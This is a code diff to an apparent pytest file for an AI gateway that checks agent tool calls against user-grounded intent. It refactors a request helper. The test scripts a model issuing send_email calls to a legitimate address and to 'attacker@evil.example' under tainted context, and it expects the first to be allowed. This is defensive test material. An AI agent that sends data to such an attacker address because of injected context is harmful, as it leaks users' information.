@@ -10,9 +10,7 @@ to wait. The verdicts expected are written out by hand.
 from __future__ import annotations
 
 import asyncio
-import json
 import uuid
-from typing import Any
 
 import httpx
 import pytest
@@ -24,7 +22,7 @@ from fak_core.grounding import GroundingStore
 from fak_core.nonblocking import is_nonblocking
 
 from .scripted_upstream import Script, ScriptedUpstream
-from .test_grounding_proxy import POLICY, _messages
+from .test_grounding_proxy import POLICY, turn_facts
 
 
 class WaitingStore(GroundingStore):
@@ -41,17 +39,6 @@ def _gateway() -> tuple[ScriptedUpstream, GatewayState, Starlette]:
     return upstream, state, Starlette(routes=proxy_routes(state, cfg))
 
 
-async def _fak(app: Starlette, wire: str, trace: str) -> dict[str, Any]:
-    doc: dict[str, Any] = {"model": "m", "messages": _messages(wire)}
-    path = "/v1/chat/completions"
-    if wire == "anthropic":
-        path, doc["max_tokens"] = "/v1/messages", 8
-    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://gw") as c:
-        r = await c.post(path, json=doc, headers={"x-trace-id": trace})
-    assert r.status_code == 200, r.text
-    return dict(json.loads(r.text)["fak"])
-
-
 @pytest.mark.parametrize("wire", ["openai", "anthropic"])
 @pytest.mark.fak_theorem("C4.6")
 def test_a_store_that_may_wait_still_grounds_the_users_words(wire: str) -> None:
@@ -60,7 +47,7 @@ def test_a_store_that_may_wait_still_grounds_the_users_words(wire: str) -> None:
     for to in ("boss@corp.example", "attacker@evil.example"):
         upstream.reset(Script(calls=[("send_email", {"to": to, "body": "the summary"})]))
         trace = f"wait-{wire}-{uuid.uuid4().hex[:8]}"
-        fak = asyncio.run(_fak(app, wire, trace))
+        fak = asyncio.run(turn_facts(app, wire, trace))
         assert state.kernel.taint(trace).label == "tainted"
         verdicts[to] = fak["adjudications"][0]["verdict"]
     assert verdicts["boss@corp.example"]["kind"] == "ALLOW"
